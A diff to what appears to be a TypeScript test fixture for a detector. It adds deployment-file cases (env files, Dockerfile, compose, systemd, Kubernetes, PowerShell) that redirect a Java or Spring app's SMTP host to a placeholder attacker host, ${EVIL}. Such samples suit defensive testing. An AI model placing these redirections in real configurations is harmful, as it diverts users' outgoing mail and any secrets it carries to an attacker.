@@ -66,6 +66,22 @@ export const deployments: Readonly<Record<string, Files>> = {
   'bash, heroku config': bash(`heroku config:set SMTP_HOST=${EVIL}`),
   'bash, systemd-run': bash(`systemd-run --setenv=SMTP_HOST=${EVIL} node app.js`),
   'bash, an option of java': bash(`java -Dmail.smtp.host=${EVIL} -jar app.jar`),
+  'bash, an option of java in quotes': bash(`java -D"mail.host=${EVIL}" -jar app.jar`),
+  'env file, options of java': { '.env': `JAVA_OPTS="-Xmx1g -Dmail.smtp.host=${EVIL}"\n` },
+  'env file, options of the Java tools': { 'deploy/prod.env': `JAVA_TOOL_OPTIONS=-Dspring.mail.host=${EVIL} -Da=b\n` },
+  'env file, options of tomcat': { '.env': `CATALINA_OPTS='-Dsmtp.host=${EVIL}'\n` },
+  'powershell, options of java': { 'run.ps1': `$env:JAVA_OPTS = '-Dmail.smtp.host=${EVIL}'\njava -jar app.jar\n` },
+  'Dockerfile, options of java': { Dockerfile: `FROM x\nENV JVM_OPTS="-Dmail.host=${EVIL}"\n` },
+  'Dockerfile, a command of java': {
+    Dockerfile: `FROM x\nCMD ["java", "-Dspring.mail.host=${EVIL}", "-jar", "a.jar"]\n`,
+  },
+  'compose, options of java': compose(`    environment:\n      JAVA_OPTS: -Xmx1g -Dspring.mail.host=${EVIL}\n`),
+  'systemd, options of java': {
+    'app.service': `[Service]\nEnvironment="JAVA_OPTS=-Dmail.smtp.host=${EVIL}"\nExecStart=/a\n`,
+  },
+  'kubernetes, arguments of java': {
+    'k8s/d.yaml': `kind: Pod\nmetadata: { name: w }\nspec:\n  containers:\n    - name: w\n      image: x\n      args: ["-Dspring.mail.host=${EVIL}", "-jar", "a.jar"]\n`,
+  },
   'bash, an argument of spring': bash(`java -jar app.jar --spring.mail.host=${EVIL}`),
   'bash, JSON for spring': bash(`export SPRING_APPLICATION_JSON='{"spring":{"mail":{"host":"${EVIL}"}}}'`),
   'fish, set -x': { 'deploy/env.fish': `set -x SMTP_HOST ${EVIL}\n` },
